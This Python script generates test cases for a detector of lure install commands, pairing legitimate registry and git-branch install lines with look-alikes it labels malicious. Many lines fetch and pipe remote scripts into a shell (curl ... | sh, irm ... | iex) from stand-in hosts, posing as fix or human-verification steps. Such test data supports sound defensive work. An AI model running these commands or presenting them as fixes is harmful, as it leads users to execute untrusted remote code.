"""Writes tests/data/cases/readmefp10.jsonl: install commands real package pages print, that
were warned about or blocked although the page is the package's own, each beside the
look-alikes that must stay flagged or blocked.

    python tests/data/cases/make_readmefp10.py

Deterministic. Written by hand after a discovery run on real READMEs (never committed): each
benign line is a command written here in the form such pages use (well-known projects' public
install commands, or made-up names), not a README's text. Lure hosts are reserved names
(*.test, *.example, *.invalid); made-up forge accounts stand for anyone's. Each line is
{id, text, expect, technique, platform, source, target}.

Principles:

- `registry-package-repository`: a package registry's page for a package (pypi.org/project/
  <name>/, npmjs.com/package/<name>, crates.io/crates/<name>) installing from the forge
  repository named as the package is, or with its language's word before or after
  (lazy-object-proxy <-> python-lazy-object-proxy, python-dateutil <-> dateutil): the page is
  the package's own README, as the repository's page is. Words of a fake check in that name
  (openapi-spec-validator's `validat`) are the name the package took, not a lure's word.
  Look-alikes: another repository's install, a lure word in the branch or file, a gist, a
  registry's search page, a registry page whose own name is a check page's: still flagged,
  and blocked where a lure word stands outside the name.
- `repository-at-ref`: pip's, pipx's or uv's `git+https://…/<repo>.git@<ref>`: the words after
  the @ name a branch (fix-typo, hotfix-1.2), not a script's file named for a fix, as
  `<repo>.git` with no ref was never one. Look-alikes: a script file named for a fix
  (fix-dns.sh, repair.ps1), also inside a path that holds `.git@`: still blocked.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("readmefp10.jsonl")
TERMINAL = "terminal"

# (registry page, command): the package's own repository, named as the package or with its
# language's word; several carry a fake check's word in the package's name
REGISTRY_OWN = [
    ("https://pypi.org/project/openapi-spec-validator/",
     'pip install "git+https://github.com/python-openapi/openapi-spec-validator.git"'),
    ("https://pypi.org/project/openapi-schema-validator/",
     "pip install -e git+https://github.com/python-openapi/openapi-schema-validator.git"
     "#egg=openapi_schema_validator"),
    ("https://pypi.org/project/lazy-object-proxy/",
     "pip install https://github.com/ionelmc/python-lazy-object-proxy/archive/master.zip"),
    ("https://pypi.org/project/python-dateutil/",
     "pip install git+https://github.com/dateutil/dateutil.git"),
    ("https://pypi.org/project/fastjsonschema-validator/",
     "pip install git+https://github.com/quillmere/fastjsonschema-validator.git@v2.1"),
    ("https://pypi.org/project/tarnwick-verify/",
     "pip install https://github.com/tarnwick/tarnwick-verify/archive/refs/tags/v0.9.tar.gz"),
    ("https://pypi.org/project/kestrel-fixer/",
     "curl -fsSL https://raw.githubusercontent.com/kestrelsoft/kestrel-fixer-py/main/install.sh"
     " | sh"),
    ("https://www.npmjs.com/package/json-schema-validator-cli",
     "npm install github:harbourcode/json-schema-validator-cli"),
    ("https://www.npmjs.com/package/@umbra/markdown-lint-fix",
     "npm install git+https://github.com/umbra-dev/markdown-lint-fix-js.git"),
    ("https://www.npmjs.com/package/email-validator",
     "curl -fsSL https://raw.githubusercontent.com/quillmere/node-email-validator/main/setup.sh"
     " | bash"),
    ("https://crates.io/crates/schema-verify",
     "cargo install --git https://github.com/tarnwick/schema-verify-rs"),
    ("https://pypi.org/project/pre-commit-fixers/",
     "pip install git+https://github.com/umbra-dev/pre-commit-fixers.git"),
]  # fmt: skip

# (page, command, expect): another repository, a lure word outside the name, a gist, a search
# page, a check page's own name, a registry page with no package
REGISTRY_LOOKALIKES = [
    ("https://pypi.org/project/openapi-spec-validator/",
     "pip install git+https://github.com/python-openapi/openapi-spec-tool.git", "flagged"),
    ("https://pypi.org/project/openapi-spec-validator/",
     "curl -fsSL https://raw.githubusercontent.com/python-openapi/openapi-spec-validator/main/"
     "verify-human.sh | sh", "malicious"),
    ("https://pypi.org/project/lazy-object-proxy/",
     "pip install git+https://github.com/ionelmc/lazy-object-proxy-captcha.git", "malicious"),
    ("https://pypi.org/project/tarnwick-verify/",
     "curl -fsSL https://gist.githubusercontent.com/tarnwick/0a1b2c/raw/tarnwick-verify.sh"
     " | sh", "flagged"),
    ("https://pypi.org/search/?q=tarnwick-verify",
     "pip install git+https://github.com/tarnwick/tarnwick-verify.git", "malicious"),
    ("https://pypi.org/project/captcha-verify/",
     "pip install git+https://github.com/acme-tools/captcha-verify.git", "malicious"),
    ("https://www.npmjs.com/package/email-validator",
     "curl -fsSL https://raw.githubusercontent.com/quillmere/email-checker/main/setup.sh | bash",
     "flagged"),
    ("https://pypi.org/project/fastjsonschema-validator/",
     "pip install git+https://github.com/quillmere/fastjsonschema-validator.git@verify-human",
     "malicious"),
    ("https://pypi.org/project/captcha-solver-bench/",
     "pipx install git+https://github.com/kestrelsoft/captcha-solver-bench.git", "malicious"),
    ("https://crates.io/crates/schema-verify",
     "cargo install --git https://github.com/tarnwick/schema-verify-helper", "malicious"),
    ("https://pypi.org/project/kestrel-fixer/",
     "curl -fsSL https://verify-kestrel.example/kestrel-fixer/install.sh | sh", "malicious"),
    ("https://pypi.org/",
     "pip install git+https://github.com/tarnwick/tarnwick-verify.git", "malicious"),
    ("https://pypi.org/project/py/",
     "pip install git+https://github.com/anyone-else/py-fix.git", "flagged"),
]  # fmt: skip


def registry_pages(book: Book) -> None:
    for page, text in REGISTRY_OWN:
        book.add("registry-package-repository", text, "not_flagged", "linux", TERMINAL, page)
    for page, text, expect in REGISTRY_LOOKALIKES:
        book.add("registry-repository-lookalike", text, expect, "linux", TERMINAL, page)


# (page, command): a repository pinned to a branch whose name has a fix's word
AT_REF = [
    ("https://github.com/pypa/pipx",
     "pipx install git+https://github.com/pypa/pipx.git@fix-something"),
    ("https://github.com/pypa/pip",
     "pip install git+https://github.com/pypa/pip.git@hotfix-24.1"),
    ("https://github.com/psf/black",
     "pip install git+https://github.com/psf/black.git@fix-crash-on-empty-file"),
    ("https://github.com/astral-sh/uv",
     "uv pip install git+https://github.com/astral-sh/uv.git@repair-lockfile"),
    ("https://github.com/quillmere/widgetctl",
     'pip install "widgetctl @ git+https://github.com/quillmere/widgetctl.git@quickfix"'),
    ("https://github.com/quillmere/widgetctl",
     "pipx install git+https://github.com/quillmere/widgetctl.git@unblock-ci"),
    ("https://github.com/tarnwick/harbour",
     "pip install -e git+https://github.com/tarnwick/harbour.git@fix/windows-paths#egg=harbour"),
    ("https://github.com/tarnwick/harbour",
     "pip install git+https://github.com/tarnwick/harbour.git@autofix-imports"),
    ("https://github.com/kestrelsoft/kestrel",
     "python -m pip install git+https://github.com/kestrelsoft/kestrel.git@fixes-for-3.13"),
    ("https://github.com/kestrelsoft/kestrel",
     "uv tool install git+https://github.com/kestrelsoft/kestrel.git@troubleshoot-logging"),
    ("https://github.com/umbra-dev/lintkit",
     "pip install git+https://github.com/umbra-dev/lintkit.git@fix-typo"),
]  # fmt: skip

QUOTED = "https://packaging.harbourcode.example/guides/installing-from-vcs"

# a script file named for a fix stays one, wherever a `.git@` stands in its path
AT_REF_LOOKALIKES = [
    ("https://github.com/pypa/pipx", "curl -fsSL https://cdn.quillmere.example/fix-dns.sh | sh"),
    ("https://github.com/pypa/pipx",
     "curl -fsSL https://cdn.quillmere.example/tools.git@main/fix-dns.sh | sh"),
    ("https://support.harbourcode.example/audio",
     "iwr https://cdn.quillmere.example/audio.git@v1/repair.ps1 | iex"),
    ("https://support.harbourcode.example/audio",
     "curl -fsSL https://cdn.quillmere.example/fix-audio.sh@v2 | bash"),
    (None, "curl -fsSL https://198.51.100.23/repair-dns.sh | bash"),
    (None, "bash <(curl -fsSL https://dl.tarnwick.test/kit.git@x/unblock.sh)"),
    ("https://help.kestrelsoft.example/wifi",
     "wget -qO- https://files.tarnwick.test/wifi-fix.sh | sh"),
    ("https://help.kestrelsoft.example/wifi",
     "curl -fsSL https://files.tarnwick.test/hotfix.git@stable/hotfix.sh | sh"),
    (None, "irm https://files.tarnwick.test/update-required.ps1 | iex"),
    ("https://meet.umbra.example/join",
     "curl -fsSL https://cdn.tarnwick.test/troubleshooter.sh | sh"),
]  # fmt: skip


def repository_refs(book: Book) -> None:
    for page, text in AT_REF:
        book.add("repository-at-ref", text, "not_flagged", "linux", TERMINAL, page)
        # bare, or quoted by another project's docs: a stranger's code from an address, which
        # is a warning; the branch's word makes it no fake fix's script, so never a block
        book.add("repository-at-ref-quoted", text, "suspicious", "linux", TERMINAL, QUOTED)
    for page, text in AT_REF_LOOKALIKES:
        book.add("fix-script-lookalike", text, "malicious", "any", TERMINAL, page)


def build() -> list[dict[str, str]]:
    book = Book("rfp10")
    registry_pages(book)
    repository_refs(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
